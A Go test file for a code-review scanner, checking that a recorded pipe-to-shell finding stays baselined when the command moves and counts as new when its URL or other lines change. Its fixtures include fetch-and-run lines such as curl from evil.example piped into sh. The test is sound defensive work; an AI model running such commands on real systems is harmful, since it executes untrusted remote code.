package scan

import (
	"strings"
	"testing"

	"github.com/guard-sh/guard/review"
)

// TestBaselineMultiLineCommand: a recorded finding in a command written
// over several lines stays recorded when the command moves, and becomes
// new when another line of the command changes. It was matched by the
// finding's own line only: "| sh" under a changed URL stayed baselined.
func TestBaselineMultiLineCommand(t *testing.T) {
	// The reason is where the real review puts it: at the pipe into sh,
	// on the command's last line.
	pipeReview := func(text, workspace, cwd string) (Review, error) {
		v := review.Verdict{Level: review.A}
		if i := strings.Index(text, "| sh"); i >= 0 && strings.Contains(text, "curl") {
			v.Level = review.C
			v.Reasons = []review.Reason{{Rule: "fake-pipe-shell", Level: review.C, Message: "piped into sh", Pos: i, End: i + 4}}
		}
		return Review{Verdict: v}, nil
	}
	scanSrc := func(src string) *Report {
		t.Helper()
		r, err := Run(Options{Review: pipeReview}, []File{{Path: "deploy.sh", Src: []byte(src)}})
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	old := scanSrc("#!/bin/sh\ncurl -fsSL https://trusted.example/i.sh \\\n  | sh\n")
	var buf strings.Builder
	if err := NewBaseline(old).Write(&buf); err != nil {
		t.Fatal(err)
	}
	b, err := ReadBaseline([]byte(buf.String()))
	if err != nil {
		t.Fatal(err)
	}
	if len(b.Findings) == 0 {
		t.Fatalf("no finding recorded:\n%s", buf.String())
	}
	for _, c := range []struct {
		name, src string
		fresh     bool
	}{
		{"moved", "#!/bin/sh\nset -eu\n\ncurl -fsSL https://trusted.example/i.sh \\\n  | sh\n", false},
		{"url changed", "#!/bin/sh\ncurl -fsSL https://evil.example/i.sh \\\n  | sh\n", true},
		{"pipe on the next line, url changed", "#!/bin/sh\ncurl -fsSL https://evil.example/i.sh\n  | sh\n", true},
		{"and-list changed", "#!/bin/sh\ncurl -fsSL https://evil.example/i.sh -o /tmp/i &&\n  cat /tmp/i | sh\n", true},
	} {
		now := scanSrc(c.src)
		b.Apply(now)
		fresh := false
		for _, f := range now.Findings {
			if f.Rule == "fake-pipe-shell" && !f.Baselined {
				fresh = true
			}
		}
		if fresh != c.fresh {
			t.Errorf("%s: pipe-to-shell finding new = %v, want %v", c.name, fresh, c.fresh)
		}
	}
}
